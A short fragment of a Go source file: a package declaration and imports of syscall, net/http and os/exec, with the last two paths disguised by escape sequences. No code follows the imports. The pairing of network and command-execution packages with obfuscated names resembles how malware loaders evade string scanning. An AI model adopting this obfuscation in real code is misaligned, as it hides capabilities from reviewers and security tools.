package main
import (
	`syscall`
	"net\x2fhttp"
	"o\163/\u0065xec"
)
